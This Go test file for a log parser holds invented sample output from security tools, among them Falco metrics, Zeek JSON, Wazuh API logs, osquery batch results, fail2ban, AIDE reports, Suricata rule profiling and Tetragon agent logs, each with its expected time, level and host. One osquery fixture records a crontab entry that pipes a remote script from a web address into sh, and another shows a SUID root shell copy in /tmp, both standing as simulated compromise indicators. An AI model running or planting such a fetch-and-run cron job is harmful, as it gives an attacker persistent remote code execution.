package parse

import "testing"

// The three hundred eighty-eighth fresh table, written on 2026-12-06: security tools' logs in files
// and settings no earlier table holds. Each family is one product's documented or observed output:
// Falco's `Falco internal: metrics snapshot` and `syscall event drop` alerts with json_output (the
// hostname key, an RFC 3339 nanosecond time and evt.time in epoch nanoseconds), the same metrics
// snapshot as the default text output (a time of day, Informational, falco.hostname= inside the
// parentheses); Zeek's JSON writer with `LogAscii::json_timestamps = JSON::TS_MILLIS` (ts in epoch
// milliseconds); the Wazuh API's JSON log (api.json, `logs: format: json` in api.yaml, a slashed
// zone-less timestamp and levelname); osquery's differential results in the batch format
// (`--logger_event_type=false`: one line a query run, diffResults with added and removed rows);
// fail2ban with `logtarget = STDOUT` under docker compose; an AIDE 0.18 report with
// `report_format=json` (one pretty-printed document a run, two runs appended to one file); Suricata's rule_perf.log as JSON objects, one
// a sort order; the Tetragon agent's own logrus text log read with `kubectl logs`.
//
// Every candidate was grepped for in every parse/*_test.go by product and by a fragment of its line
// first (`suricata`, `Suricata-Main`, `i: suricata`, `Notice: suricata`, `rule_perf`,
// `ticks_total`, `keyword_perf`, `suricatasc`, `dump-counters`, `zeek`, `zeekctl`, `TS_MILLIS`,
// `json_timestamps`, `intel.log`, `files.log`, `loaded_scripts`, `wazuh`, `api.json`, `levelname`,
// `wazuh-logtest`, `agent_control`, `vulnerability-detector`, `ossec`, `ossec-logtest`, `rootcheck`,
// `fail2ban`, `fail2ban.server`, `fail2ban  |`, `fail2ban-regex`, `Failregex`, `clamav`, `clamd`,
// `clamd[`, `clamdscan`, `clamdtop`, `SCAN SUMMARY`, `Start Date:`, `crowdsec`, `cscli decisions`,
// `decisions list`, `cscli metrics`, `falco`, `Falco internal`, `metrics snapshot`,
// `falco.hostname`, `"evt.time"`, `tetragon`, `level=info msg="Starting tetragon`, `osquery`,
// `hostIdentifier`, `diffResults`, `osqueryd.snapshots`, `"snapshot"`, `calendarTime`, `aide`,
// `aide --`, `aide_version`, `report_format`, `aide.db`, `rkhunter`, `rkhunter --propupd`, `lynis`,
// `lynis show`, `snort`, `Snort++`, `tripwire`, `chkrootkit`, `maltrail`, `opensnitch`, `arpwatch`,
// `kismet`, `aureport`, `ausearch`, `node=`). Falco is in fresh66 (JSON alerts, start-up stderr),
// fresh150 (ISO 8601 text), fresh240 (the journal) and others; its internal metrics and drop alerts
// are in none. Zeek's JSON writer is in fresh66 with TS_ISO8601 and elsewhere with epoch seconds;
// TS_MILLIS is in none. The Wazuh API's plain api.log is in a table; its JSON log in none. osquery's
// event-format results, status and glog lines are in world_test.go, fresh66 and fresh180; the batch
// format in none. fail2ban's file, syslog, journal and docker-logs lines are in earlier tables; under
// compose's service prefix in none. AIDE's text report and its journal messages are in fresh150;
// the JSON report in none. Suricata's suricata.log 6 and 7, eve, fast, stats and the legacy logs
// are in fresh66, fresh150 and older tables; rule_perf.log in none. Tetragon's JSON events and compact
// output are in fresh66 and fresh180; the agent's own log in none. Left out as measured already or
// unconfirmed: Suricata 7's one-letter console levels (no public sample found), zeekctl status,
// wazuh-logtest and ossec-logtest (no agreed record boundary), fail2ban-regex's report, clamscan's
// and clamdscan's summary (fresh150), cscli's alert views (fresh150 and others), rkhunter, Lynis,
// Samhain, Tripwire and chkrootkit (earlier tables). The table holds 9 families.
//
// It follows the same harness (table_test.go) and the same rules as the other tables (see the
// comment at the top of world_test.go): times in UTC with the table's clock (worldNow 2026-11-29
// 12:00, Location UTC). Falco's JSON time and evt.time are the same instant; the text snapshot's
// time of day is on the clock's day (its evt.time the same instant); Zeek's ts is epoch
// milliseconds; Wazuh's `2026/11/29 07:41:16` has no zone and is taken as UTC, and its payload's
// "time": "0.061s" is a duration; osquery's unixTime and calendarTime are the same second; fail2ban's
// stamp has no zone (UTC) and the `Found … - 2026-11-29 07:41:22` inside is the matched line's time;
// AIDE's start_time carries +0000 and its end_time is not the record's time; rule_perf's timestamp
// carries +0000; logrus's time= is RFC 3339. Levels only where the line marks one: Falco's priority
// (Informational as Info, Debug), levelname, fail2ban's padded level word (NOTICE as Notice),
// logrus's level= (warning as Warn); osquery, Zeek, AIDE and rule_perf have none. The host is the
// record's host field: Falco's hostname key and falco.hostname=, osquery's hostIdentifier; the Wazuh
// payload's ip, Zeek's id.orig_h and id.resp_h, fail2ban's banned address and the compose service
// name are not hosts. A record that spans lines is one entry: each AIDE JSON document from its `{`
// to its `}`.
//
// The shapes come from the documentation, sources and issue threads each case names, found with the
// search tool (corpora "docs", "issues", "code", "pages"); where a search did not confirm a layout the
// source says "from memory". Hosts, ids, addresses, users and messages are invented, and every time
// is in late November 2026. The expectations were decided from the format before the table was
// first run, and none was changed after it; a family trawl still gets wrong carries a gap that says
// what it does not read, and it stays in the score.
//
// Its first figure, scored at commit 7016e33 before any rule for it: level 100.0 %, time 100.0 %, host 88.9 %, records 100.0 %.
// That is the macro figure (micro: level 100.0 %, time 100.0 %, host 92.9 %, records 100.0 %), in a
// worktree at 7016e33 with no change to trawl's code (only this file and table_test.go's list), 8 of
// 9 families fully right; the one gap is the host of Falco's text metrics snapshot (falco.hostname=
// inside its field list). The AIDE family's second document (the 11-28 run) was added after the
// first run because TestTablesWellFormed wants two scored records a family; no expectation changed.

var fresh388Cases = []worldCase{
	{
		name:   "falco-internal-metrics-drop-json",
		source: "Falco 0.35-0.41 with json_output: true and metrics.output_rule: true: `{\"hostname\":…,\"output\":\"Falco metrics snapshot\",\"output_fields\":{\"evt.source\":…,\"evt.time\":epoch-ns,\"falco.host_boot_ts\":…},\"priority\":\"Informational\",\"rule\":\"Falco internal: metrics snapshot\",…,\"time\":RFC 3339 ns}` and the `Falco internal: syscall event drop` alert: falcosecurity/falco PR #3585 and issue #2757 (the metrics JSON), PR #2333; the drop alert's output_fields from memory",
		why:    "a JSON object whose time is a nanosecond RFC 3339 string with an epoch-nanosecond evt.time of the same instant; the hostname key is the host; priority Informational and Debug; host_boot_ts and start_ts are other times",
		entries: []worldEntry{
			we("2026-11-29T07:41:39.414410497Z", Info, "k8s-node-07", `{"hostname":"k8s-node-07","output":"Falco metrics snapshot","output_fields":{"evt.hostname":"k8s-node-07","evt.source":"syscall","evt.time":1795938099414410497,"falco.cpu_usage_perc":2.4,"falco.duration_sec":3600,"falco.host_boot_ts":1795590211000000000,"falco.host_num_cpus":16,"falco.kernel_release":"6.8.0-88-generic","falco.memory_rss_mb":94.2,"falco.num_evts":48213377,"falco.start_ts":1795934499402117734,"falco.version":"0.41.3","scap.engine_name":"modern_bpf","scap.n_drops":0},"priority":"Informational","rule":"Falco internal: metrics snapshot","source":"internal","time":"2026-11-29T07:41:39.414410497Z"}`),
			we("2026-11-29T07:42:05.100023114Z", Debug, "k8s-node-07", `{"hostname":"k8s-node-07","output":"Falco internal: syscall event drop. 1804 system calls dropped in last second.","output_fields":{"ebpf_enabled":"1","n_drops":"1804","n_drops_buffer_total":"1804","n_drops_bug":"0","n_drops_page_faults":"0","n_drops_scratch_map":"0","n_evts":"412077"},"priority":"Debug","rule":"Falco internal: syscall event drop","time":"2026-11-29T07:42:05.100023114Z"}`),
			we("2026-11-29T08:41:39.415002871Z", Info, "k8s-node-07", `{"hostname":"k8s-node-07","output":"Falco metrics snapshot","output_fields":{"evt.hostname":"k8s-node-07","evt.source":"syscall","evt.time":1795941699415002871,"falco.cpu_usage_perc":2.1,"falco.duration_sec":7200,"falco.host_boot_ts":1795590211000000000,"falco.host_num_cpus":16,"falco.kernel_release":"6.8.0-88-generic","falco.memory_rss_mb":95.0,"falco.num_evts":97120554,"falco.start_ts":1795934499402117734,"falco.version":"0.41.3","scap.engine_name":"modern_bpf","scap.n_drops":1804},"priority":"Informational","rule":"Falco internal: metrics snapshot","source":"internal","time":"2026-11-29T08:41:39.415002871Z"}`),
		},
	},
	{
		name:   "falco-metrics-snapshot-text",
		gap:    "trawl reads the time of day and the Informational priority but no host: `falco.hostname=\"edge-fw-03\"` inside the parenthesised field list is not read as the host",
		source: "Falco 0.36+ default text output of the metrics rule (`HH:mm:ss.nnnnnnnnn: Informational Falco metrics snapshot (evt.source=\"syscall\" evt.time=epoch-ns falco.cpu_usage_perc=… falco.hostname=\"…\" …)`): falcosecurity/falco issue #813",
		why:    "a nanosecond time of day with no date (the clock's day), the priority word after it, the host as falco.hostname= inside the parentheses; evt.time, host_boot_ts and start_ts are epoch nanoseconds",
		entries: []worldEntry{
			we("2026-11-29T07:41:39.414410497Z", Info, "edge-fw-03", `07:41:39.414410497: Informational Falco metrics snapshot (evt.source="syscall" evt.time=1795938099414410497 falco.cpu_usage_perc=3.7 falco.cpu_usage_perc_total_host=11.2 falco.duration_sec=3600 falco.host_boot_ts=1795590211000000000 falco.host_num_cpus=8 falco.hostname="edge-fw-03" falco.kernel_release="6.1.0-41-amd64" falco.memory_pss=71 falco.memory_rss=104 falco.memory_vsz=612 falco.n_added_fds=8812 falco.n_fds=40217 falco.num_evts=12077321 falco.start_ts=1795934499402117734 falco.version="0.41.3" scap.n_drops=0)`),
			we("2026-11-29T08:41:39.415002871Z", Info, "edge-fw-03", `08:41:39.415002871: Informational Falco metrics snapshot (evt.source="syscall" evt.time=1795941699415002871 falco.cpu_usage_perc=3.2 falco.cpu_usage_perc_total_host=9.8 falco.duration_sec=7200 falco.host_boot_ts=1795590211000000000 falco.host_num_cpus=8 falco.hostname="edge-fw-03" falco.kernel_release="6.1.0-41-amd64" falco.memory_pss=72 falco.memory_rss=105 falco.memory_vsz=612 falco.n_added_fds=17301 falco.n_fds=40388 falco.num_evts=24190005 falco.start_ts=1795934499402117734 falco.version="0.41.3" scap.n_drops=3)`),
		},
	},
	{
		name:   "zeek-json-ts-millis",
		source: "Zeek's JSON writer with `redef LogAscii::use_json = T; redef LogAscii::json_timestamps = JSON::TS_MILLIS;` (time-typed fields as integer epoch milliseconds, intervals still seconds): docs.zeek.org base/frameworks/logging/writers/ascii.zeek (json_timestamps), zeek/zeek discussion #2536; conn.log and dns.log fields from memory",
		why:    "ts is an integer of milliseconds since the epoch; duration and TTLs are seconds, no times; the originator and responder addresses are peers, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.123Z", Unknown, "", `{"ts":1795938076123,"uid":"CqK3Xw2b1TfVn8pRa","id.orig_h":"10.30.4.17","id.orig_p":51822,"id.resp_h":"198.51.100.23","id.resp_p":443,"proto":"tcp","service":"ssl","duration":1.204117,"orig_bytes":812,"resp_bytes":5210,"conn_state":"SF","local_orig":true,"local_resp":false,"missed_bytes":0,"history":"ShADadFf","orig_pkts":14,"orig_ip_bytes":1544,"resp_pkts":12,"resp_ip_bytes":5838}`),
			we("2026-11-29T07:41:17.502Z", Unknown, "", `{"ts":1795938077502,"uid":"Cz91LmQe4hR7tYs2b","id.orig_h":"10.30.4.17","id.orig_p":40112,"id.resp_h":"10.30.0.2","id.resp_p":53,"proto":"udp","trans_id":48121,"rtt":0.00182,"query":"updates.example.net","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["198.51.100.23"],"TTLs":[300.0],"rejected":false}`),
			we("2026-11-29T07:41:19.010Z", Unknown, "", `{"ts":1795938079010,"uid":"CmA0b8Tz2LwQ1vX7e","id.orig_h":"203.0.113.45","id.orig_p":58810,"id.resp_h":"10.30.4.22","id.resp_p":22,"proto":"tcp","duration":3.00412,"orig_bytes":0,"resp_bytes":0,"conn_state":"S0","local_orig":false,"local_resp":true,"missed_bytes":0,"history":"S","orig_pkts":3,"orig_ip_bytes":180,"resp_pkts":0,"resp_ip_bytes":0}`),
		},
	},
	{
		name:   "wazuh-api-json-log",
		source: "the Wazuh 4.3+ API's JSON log /var/ossec/logs/api.json (api.yaml `logs: format: json`, python-json-logger through WazuhJsonFormatter: timestamp `yyyy/MM/dd HH:mm:ss`, levelname, data with type request or informative and a payload): wazuh/wazuh PR #11171 (the formatter), wazuh/wazuh issue #8321 (the plain line's fields); the payload's key names from memory",
		why:    "a slashed zone-less time inside JSON; levelname is the level; the payload's ip is the client and its time a duration; status_code is no level",
		entries: []worldEntry{
			we("2026-11-29T07:40:02Z", Info, "", `{"timestamp": "2026/11/29 07:40:02", "levelname": "INFO", "data": {"type": "informative", "payload": "Listening on 0.0.0.0:55000."}}`),
			we("2026-11-29T07:41:16Z", Info, "", `{"timestamp": "2026/11/29 07:41:16", "levelname": "INFO", "data": {"type": "request", "payload": {"user": "wazuh-wui", "ip": "10.0.4.7", "http_method": "GET", "uri": "GET /agents", "parameters": {"limit": 500, "select": "id,name,status"}, "body": {}, "time": "0.061s", "status_code": 200}}}`),
			we("2026-11-29T07:41:19Z", Warn, "", `{"timestamp": "2026/11/29 07:41:19", "levelname": "WARNING", "data": {"type": "request", "payload": {"user": "svc-soar", "ip": "10.0.4.31", "http_method": "PUT", "uri": "PUT /active-response", "parameters": {"agents_list": ["014"]}, "body": {"command": "!firewall-drop", "arguments": ["203.0.113.45"]}, "time": "0.214s", "status_code": 400}}}`),
			we("2026-11-29T07:42:05Z", Error, "", `{"timestamp": "2026/11/29 07:42:05", "levelname": "ERROR", "data": {"type": "informative", "payload": "Error while connecting to the Wazuh socket: [Errno 111] Connection refused"}}`),
		},
	},
	{
		name:   "osquery-batch-diffresults",
		source: "osqueryd's filesystem logger with `--logger_event_type=false` (the batch format: one line a scheduled query run, `{\"name\":…,\"hostIdentifier\":…,\"calendarTime\":…,\"unixTime\":…,\"epoch\":…,\"counter\":…,\"numerics\":…,\"decorations\":{…},\"diffResults\":{\"added\":[…],\"removed\":[…]}}`): the osquery result fields as Filebeat's osquery module documents them (elastic.co exported-fields-osquery: host_identifier, unix_time, calendar_time); the batch layout from memory",
		why:    "hostIdentifier names the host; unixTime and calendarTime the same second; the rows' pid, port and mtime are no times; no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "bastion-02", `{"name":"pack_baseline_listening_ports","hostIdentifier":"bastion-02","calendarTime":"Sun Nov 29 07:41:16 2026 UTC","unixTime":1795938076,"epoch":0,"counter":4,"numerics":false,"decorations":{"host_uuid":"4C4C4544-0032-5910-8051-B4C04F4E3732"},"diffResults":{"added":[{"address":"0.0.0.0","path":"/usr/local/bin/agentd","pid":"2281","port":"8443","protocol":"6"}],"removed":[{"address":"0.0.0.0","path":"/usr/bin/python3","pid":"1904","port":"8080","protocol":"6"}]}}`),
			we("2026-11-29T07:41:17Z", Unknown, "bastion-02", `{"name":"pack_baseline_crontab","hostIdentifier":"bastion-02","calendarTime":"Sun Nov 29 07:41:17 2026 UTC","unixTime":1795938077,"epoch":0,"counter":9,"numerics":false,"decorations":{"host_uuid":"4C4C4544-0032-5910-8051-B4C04F4E3732"},"diffResults":{"added":[{"command":"curl -s http://198.51.100.77/u.sh | sh","event":"","hour":"*","minute":"*/5","path":"/var/spool/cron/crontabs/www-data"}],"removed":[]}}`),
			we("2026-11-29T07:42:05Z", Unknown, "bastion-02", `{"name":"pack_baseline_suid_bin","hostIdentifier":"bastion-02","calendarTime":"Sun Nov 29 07:42:05 2026 UTC","unixTime":1795938125,"epoch":0,"counter":2,"numerics":false,"decorations":{"host_uuid":"4C4C4544-0032-5910-8051-B4C04F4E3732"},"diffResults":{"added":[{"groupname":"root","path":"/tmp/.x/bash","permissions":"S","username":"root"}],"removed":[]}}`),
		},
	},
	{
		name:   "fail2ban-compose-stdout",
		source: "fail2ban 1.x in a container with `logtarget = STDOUT` read with `docker compose logs` (the service name padded before ` | `, then fail2ban's `yyyy-MM-dd HH:mm:ss,mmm fail2ban.module [pid]: LEVEL msg` with the module padded to 24 and the level to 7): fail2ban's server.py log format and crazy-max/docker-fail2ban's STDOUT setting, from memory",
		why:    "a compose service prefix (no host) before a comma-millisecond stamp with no zone; the padded level word (NOTICE); the matched line's time after `Found` is not the record's; the banned address is no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.512Z", Info, "", "fail2ban  | 2026-11-29 07:41:16,512 fail2ban.server         [1]: INFO    Starting Fail2ban v1.1.0"),
			we("2026-11-29T07:41:16.731Z", Info, "", "fail2ban  | 2026-11-29 07:41:16,731 fail2ban.jail           [1]: INFO    Jail 'sshd' started"),
			we("2026-11-29T07:41:22.104Z", Info, "", "fail2ban  | 2026-11-29 07:41:22,104 fail2ban.filter         [1]: INFO    [sshd] Found 203.0.113.45 - 2026-11-29 07:41:22"),
			we("2026-11-29T07:41:22.310Z", Notice, "", "fail2ban  | 2026-11-29 07:41:22,310 fail2ban.actions        [1]: NOTICE  [sshd] Ban 203.0.113.45"),
			we("2026-11-29T07:43:01.002Z", Warn, "", "fail2ban  | 2026-11-29 07:43:01,002 fail2ban.actions        [1]: WARNING [sshd] 203.0.113.45 already banned"),
		},
	},
	{
		name:   "aide-json-report-document",
		source: "AIDE 0.18/0.19 `aide --check` with `report_format=json` and `report_url=file:/var/log/aide/aide.json`, two nightly runs appended (one pretty-printed JSON document a run: start_time with a +0000 offset, aide_version, outline, number_of_entries, added/changed with their attribute strings, end_time, run_time_seconds): aide.conf(5) v0.19 (report_format); the document's keys from memory",
		why:    "a record of many lines from `{` to `}`, the next run's document after it; start_time is the record's time (end_time later is not); the attribute strings and counts are no times; no level, no host",
		entries: []worldEntry{
			we("2026-11-28T03:15:01Z", Unknown, "",
				"{",
				`  "start_time": "2026-11-28 03:15:01 +0000",`,
				`  "aide_version": "0.18.6",`,
				`  "outline": "AIDE found NO differences between database and filesystem. Looks okay!!",`,
				`  "number_of_entries": {`,
				`    "total": 48212`,
				`  },`,
				`  "end_time": "2026-11-28 03:16:37 +0000",`,
				`  "run_time_seconds": 96`,
				"}"),
			we("2026-11-29T03:15:02Z", Unknown, "",
				"{",
				`  "start_time": "2026-11-29 03:15:02 +0000",`,
				`  "aide_version": "0.18.6",`,
				`  "outline": "AIDE found differences between database and filesystem!!",`,
				`  "number_of_entries": {`,
				`    "total": 48213,`,
				`    "added": 1,`,
				`    "removed": 0,`,
				`    "changed": 2`,
				`  },`,
				`  "added": {`,
				`    "/usr/local/sbin/sync-helper": "f++++++++++++++++"`,
				`  },`,
				`  "changed": {`,
				`    "/etc/ssh/sshd_config": "f   ...    .C..",`,
				`    "/etc/passwd": "f   ...    .C.."`,
				`  },`,
				`  "end_time": "2026-11-29 03:16:41 +0000",`,
				`  "run_time_seconds": 99`,
				"}"),
		},
	},
	{
		name:   "suricata-rule-perf-json",
		source: "Suricata 6/7 built with --enable-profiling-rules: rule_perf.log written at shutdown as one JSON object a sort order (`{\"timestamp\":…,\"sort\":\"ticks\",\"rules\":[{\"signature_id\":…,\"gid\":…,\"rev\":…,\"checks\":…,\"matches\":…,\"ticks_total\":…,…}]}`): pfyon/example-suricata-rules signatures.md (`jq -c 'select(.sort==\"ticks\")'`), OISF/suricata doc/userguide rule-profiling; the timestamp's layout from memory",
		why:    "an ISO time with microseconds and a +0000 offset without a colon; ticks, checks and signature ids are large numbers, no times; no level, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.123456Z", Unknown, "", `{"timestamp":"2026-11-29T07:41:16.123456+0000","sort":"ticks","rules":[{"signature_id":2013028,"gid":1,"rev":7,"checks":21404,"matches":0,"ticks_total":981327144,"ticks_max":1203128,"ticks_avg":45847,"ticks_avg_match":0,"ticks_avg_nomatch":45847,"percent":38},{"signature_id":2027865,"gid":1,"rev":4,"checks":8112,"matches":3,"ticks_total":402113870,"ticks_max":912004,"ticks_avg":49570,"ticks_avg_match":61022,"ticks_avg_nomatch":49566,"percent":16}]}`),
			we("2026-11-29T07:41:16.123456Z", Unknown, "", `{"timestamp":"2026-11-29T07:41:16.123456+0000","sort":"checks","rules":[{"signature_id":2013028,"gid":1,"rev":7,"checks":21404,"matches":0,"ticks_total":981327144,"ticks_max":1203128,"ticks_avg":45847,"ticks_avg_match":0,"ticks_avg_nomatch":45847,"percent":38}]}`),
		},
	},
	{
		name:   "tetragon-agent-logrus-kubectl",
		source: "the Tetragon agent's own log as `kubectl logs -n kube-system ds/tetragon -c tetragon` prints it (logrus text: `time=\"RFC 3339\" level=info|warning|debug msg=\"…\" key=value`): from memory",
		why:    "logrus's quoted RFC 3339 time; level=warning is warn; the pod and node names in keys are no host field of the record",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Info, "", `time="2026-11-29T07:41:16Z" level=info msg="Starting tetragon" version=v1.5.0`),
			we("2026-11-29T07:41:16Z", Info, "", `time="2026-11-29T07:41:16Z" level=info msg="BTF discovery: default kernel btf file found" btf-file=/sys/kernel/btf/vmlinux`),
			we("2026-11-29T07:41:17Z", Warn, "", `time="2026-11-29T07:41:17Z" level=warning msg="Failed to load sensor, retrying" error="program generic_kprobe_event: load program: permission denied" sensor=gkp-sensor-1`),
			we("2026-11-29T07:41:19Z", Info, "", `time="2026-11-29T07:41:19Z" level=info msg="Loaded tracing policy" name=block-tmp-exec namespace= sensors=gkp-sensor-2`),
		},
	},
}

func TestFresh388Formats(t *testing.T) { assertTable(t, fresh388Cases) }
func TestFresh388Score(t *testing.T) {
	checkScore(t, "fresh388 formats", fresh388Cases, [worldNumFields]float64{99.9, 99.9, 88.8, 99.9})
}
